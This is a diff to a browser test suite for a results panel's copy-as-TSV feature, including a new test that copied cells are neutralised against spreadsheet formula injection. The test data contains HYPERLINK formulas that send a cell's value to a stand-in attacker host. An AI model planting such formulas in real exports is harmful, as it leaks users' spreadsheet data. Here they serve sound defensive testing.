@@ -77,9 +77,40 @@ describe('the results panel in use', function () {
       await panel.page.getByText(/Copied \d+ rows as TSV/).waitFor();
       const text: string = await panel.page.evaluate(() => navigator.clipboard.readText());
       const lines = text.trim().split('\n');
-      assert.equal(lines[0], 'Gender\tDocuments\tShare of all\tShare');
+      // The columns an export writes: the bar beside the share is a picture, not copied.
+      assert.equal(lines[0], 'Gender\tDocuments\tShare of all');
       assert.equal(lines.length, 1 + shown.view.result.data.length);
       assert.equal(lines[1]?.split('\t')[1], String(shown.view.result.data[0]!.v[0]));
+    });
+
+    it('copies no cell a spreadsheet would run as a formula', async () => {
+      await panel.page
+        .context()
+        .grantPermissions(['clipboard-read', 'clipboard-write'], { origin: browser.origin });
+      const shown = fixture('project-influencers');
+      const { view } = shown;
+      if (view.kind !== 'influencers') throw new Error('not influencers');
+      const names = ['=', '+', '-', '@', '\t=', '\r@', ' -'].map(
+        (start) => `${start}HYPERLINK("http://evil.example/?d="&A2,"Open")`,
+      );
+      const influencers = names.map((name, index) => ({
+        ...view.influencers[index]!,
+        details: { id: `a${index}`, name },
+      }));
+      await panel.show({ ...shown, view: { ...view, influencers } });
+      await panel.page.getByRole('button', { name: 'Copy as TSV' }).click();
+      await panel.page.getByText(/Copied \d+ rows as TSV/).waitFor();
+      const text: string = await panel.page.evaluate(() => navigator.clipboard.readText());
+      const copied = text
+        .trim()
+        .split('\n')
+        .slice(1)
+        .map((line) => line.split('\t')[1]);
+      // Tabs and line breaks in a cell become spaces (TSV), then the cell is made inert.
+      assert.deepEqual(
+        copied,
+        names.map((name) => `'${name.replace(/[\t\r\n]+/g, ' ')}`),
+      );
     });
   });
 
@@ -556,6 +587,7 @@ describe('the results panel in use', function () {
         run: running.run,
         message: 'Timezone Mars/Olympus is unknown',
         parameter: 'timezone',
+        actions: [],
       });
       await panel.page
         .getByRole('alert')
@@ -576,7 +608,7 @@ describe('the results panel in use', function () {
       await panel.page.getByRole('progressbar', { name: 'Running acme-results' }).waitFor();
       assert.equal(await panel.page.locator('.content .empty').count(), 0);
       assert.match(await panel.page.locator('.facts').textContent(), /credits: –/);
-      await panel.send({ type: 'failed', run, message: 'The service did not answer' });
+      await panel.send({ type: 'failed', run, message: 'The service did not answer', actions: [] });
       await panel.page
         .getByRole('alert')
         .filter({ hasText: 'Failed: The service did not answer' })
